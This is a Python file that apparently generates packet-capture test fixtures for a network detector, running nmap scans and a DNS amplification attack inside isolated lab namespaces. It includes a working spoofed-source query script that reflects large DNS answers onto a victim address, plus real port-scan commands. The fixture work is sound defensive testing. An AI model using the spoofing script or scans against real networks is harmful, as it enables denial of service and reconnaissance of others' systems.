# SPDX-License-Identifier: MIT OR Apache-2.0
"""What is recorded, one function per capture. Fixed choices everywhere; where programs roll dice, they roll dice."""
import random
import smtplib
import socket
import sys
import time
from email.message import EmailMessage

from lab import HERE, sh

TARGETS = {}


class Target:
    def __init__(self, function, proves, needs, oracle):
        self.run, self.proves, self.needs, self.oracle = function, proves, needs, oracle


def target(name, proves, needs=(), oracle=()):
    return lambda f: TARGETS.setdefault(name, Target(f, proves, list(needs), list(oracle)))


# ---------------------------------------------------------------- scans

def scan(lab, path, flags, targets, open_ports):
    """nmap on `scanner`; what it looks for is behind the laboratory's own router, where most addresses lead nowhere."""
    sh("sysctl", "-qw", "net.ipv4.ip_forward=1", "net.ipv6.conf.all.forwarding=1")
    lab.bridge("dmz")
    for dev, addresses in (("lan", ("192.0.2.1/24", "2001:db8:1::1/64")), ("dmz", ("203.0.113.1/24", "2001:db8:3::1/64"))):
        sh("sysctl", "-qw", f"net.ipv6.conf.{dev}.disable_ipv6=0", f"net.ipv6.conf.{dev}.accept_dad=0")
        for a in addresses:
            sh("ip", "address", "add", a, "dev", dev, *(["nodad"] if ":" in a else []))
    lab.host("scanner", "192.0.2.66/24", "2001:db8:1::66/64", routes=("default via 192.0.2.1", "default via 2001:db8:1::1"))
    for number, ports in open_ports.items():
        name = f"target{number}"
        lab.host(name, f"203.0.113.{number}/24", f"2001:db8:3::{number}/64", bridge="dmz",
                 routes=("default via 203.0.113.1", "default via 2001:db8:3::1"))
        sh("ip", "-n", name, "address", "add", f"198.51.100.{number}/32", "dev", "lo")
        sh("ip", "-n", name, "address", "add", f"2001:db8:2::{number}/128", "dev", "lo", "nodad")
        sh("ip", "route", "add", f"198.51.100.{number}", "via", f"203.0.113.{number}")
        sh("ip", "route", "add", f"2001:db8:2::{number}", "via", f"2001:db8:3::{number}")
        for port in ports:
            lab.start(name, "ncat", "-k", "-l", port, tcp=[port])
    # no answer at all from the others, rather than "host unreachable" from the router
    sh("ip", "route", "add", "blackhole", "198.51.100.0/24")
    sh("ip", "route", "add", "blackhole", "2001:db8:2::/64")
    with lab.capture(path, dev="p_scanner"):
        lab.run("scanner", "nmap", "-n", "-Pn", "-T4", *flags.split(), targets)


@target("scan/horizontal.pcap", "nmap SYN scan of 150 addresses on ports 22 and 80; two hosts answer, the others are silent", ["nmap", "ncat"])
def horizontal(lab, path):
    scan(lab, path, "-sS --max-retries 1 -p 22,80", "198.51.100.1-150", {10: (22, 80), 20: (80,)})


@target("scan/horizontal-few.pcap", "near miss: nmap SYN scan of 40 addresses on one port, below the threshold of 50", ["nmap", "ncat"])
def horizontal_few(lab, path):
    scan(lab, path, "-sS --max-retries 0 -p 443", "198.51.100.1-40", {10: (443,)})


@target("scan/horizontal-ipv6.pcap", "nmap SYN scan of 128 IPv6 addresses on port 22; one host answers", ["nmap", "ncat"])
def horizontal6(lab, path):
    scan(lab, path, "-6 -sS --max-retries 1 -p 22", "2001:db8:2::/121", {10: (22,)})


@target("scan/vertical.pcap", "nmap SYN scan of 1000 ports of one host; seven are open, the rest is closed (RST)", ["nmap", "ncat"])
def vertical(lab, path):
    scan(lab, path, "-sS -p 1-1000", "198.51.100.10", {10: (22, 25, 80, 110, 143, 443, 993)})


@target("scan/vertical-connect.pcap", "nmap connect scan of 100 ports: whole handshakes where a port is open", ["nmap", "ncat"])
def vertical_connect(lab, path):
    scan(lab, path, "-sT -p 20-119", "198.51.100.10", {10: (22, 80)})


@target("scan/vertical-few.pcap", "near miss: nmap SYN scan of 30 ports of one host", ["nmap", "ncat"])
def vertical_few(lab, path):
    scan(lab, path, "-sS -p 1-30", "198.51.100.10", {10: (22, 25)})


@target("scan/udp.pcap", "nmap UDP scan of 100 ports: protocol probes, ICMP port unreachable", ["nmap"])
def udp_scan(lab, path):
    scan(lab, path, "-sU --top-ports 100 --max-retries 1", "198.51.100.10", {10: ()})


# ---------------------------------------------------------------- DNS amplification

def txt_records(name, count):
    return "".join(f'{name} 3600 IN TXT "{i:02d} {"weir fixture " * 15}"\n' for i in range(count))


ZONE = """$TTL 3600
@ IN SOA ns.example.{tld}. hostmaster.example.{tld}. 1 3600 900 604800 300
@ IN NS ns
@ IN MX 10 mail
@ IN A 198.51.100.80
@ IN AAAA 2001:db8:2::80
@ IN TXT "v=spf1 mx -all"
ns IN A 198.51.100.53
ns IN AAAA 2001:db8:2::53
mail IN A 198.51.100.25
mail IN AAAA 2001:db8:2::25
sip IN A 198.51.100.60
_sip._udp IN SRV 10 60 5060 sip
ntp IN A 192.0.2.123
alias IN CNAME www
"""
WEB = ("www", "shop", "news", "static", "intranet", "video", "wiki", "api")


def nsd(lab, host, **extra):
    """An authoritative server for example.com, example.net and example.org; `extra` adds lines to example.com."""
    text = f"""server:
  username: ""
  zonesdir: "{lab.file('zones/.keep', '').parent}"
  pidfile: ""
  xfrdfile: ""
  zonelistfile: "zone.list"
  database: ""
  server-count: 1
  ipv4-edns-size: 4096
  ipv6-edns-size: 4096
  rrl-ratelimit: 0
  hide-version: yes
remote-control:
  control-enable: no
"""
    for tld in ("com", "net", "org"):
        zone = ZONE.format(tld=tld) + "".join(f"{w} IN A 198.51.100.80\n{w} IN AAAA 2001:db8:2::80\n" for w in WEB)
        lab.file(f"zones/example.{tld}", zone + (extra.get("com", "") if tld == "com" else ""))
        text += f'zone:\n  name: "example.{tld}"\n  zonefile: "example.{tld}"\n'
    lab.start(host, "nsd", "-d", "-c", lab.file("nsd.conf", text), udp=[53], tcp=[53])


def question(name, kind, number, size=4096):
    labels = b"".join(bytes((len(x),)) + x.encode() for x in name.split(".")) + b"\0"
    return (number.to_bytes(2, "big") + b"\1\0\0\1\0\0\0\0\0\1" + labels + kind.to_bytes(2, "big") + b"\0\1"
            + b"\0\0\x29" + size.to_bytes(2, "big") + b"\0\0\0\0\0\0")


SPOOF = """
import random, socket, sys, time
from binascii import unhexlify
count, rate, victim = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3]
dice = random.Random(1)
sockets = []
for port in dice.sample(range(1024, 65536), 24):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, 19, 1)  # IP_TRANSPARENT: an address that is not ours
    s.bind((victim, port))
    sockets.append(s)
q = [unhexlify(x) for x in sys.argv[4:]]
start = time.monotonic()
for i in range(count):
    time.sleep(max(0, start + i / rate - time.monotonic()))
    dice.choice(sockets).sendto(dice.randrange(65536).to_bytes(2, "big") + dice.choice(q)[2:], ("198.51.100.53", 53))
"""


def amplification(lab, path, count, rate, questions, snap):
    """The attacker puts the victim's address into its queries; the victim gets answers that it never asked for."""
    lab.host("attacker", "192.0.2.66/24")
    lab.host("victim", "192.0.2.77/24")
    lab.run("victim", "sysctl", "-qw", "net.ipv4.icmp_ratelimit=1000")  # as Linux comes: few "port unreachable"
    lab.host("server", "198.51.100.53/24")
    nsd(lab, "server", com=txt_records("big", 6) + txt_records("huge", 18))
    # the server knows its way to the victim, as it would on the internet: no ARP storm in the capture
    lab.run("server", "ping", "-c", "1", "192.0.2.77")
    lab.run("attacker", "ping", "-c", "1", "198.51.100.53")
    with lab.capture(path, snap=snap):
        lab.run("attacker", sys.executable, lab.file("spoof.py", SPOOF), count, rate, "192.0.2.77", *(question(*q, 0).hex() for q in questions))


@target("amplification/dns.pcap", "DNS amplification: 3200 spoofed ANY and TXT queries to NSD, answers of 1.3 kB to the victim; snapped at 96 octets",
        ["nsd", "ping"], ["--no-l7"])
def dns_amplification(lab, path):
    amplification(lab, path, 3200, 200, [("big.example.com", 255), ("big.example.com", 16)], 96)


@target("amplification/dns-fragments.pcap", "near miss: 200 spoofed queries, answers of 3.8 kB in three fragments (600 packets, 0.8 MB); snapped at 96 octets",
        ["nsd", "ping"], ["--no-l7"])
def dns_fragments(lab, path):
    amplification(lab, path, 200, 100, [("huge.example.com", 16)], 96)
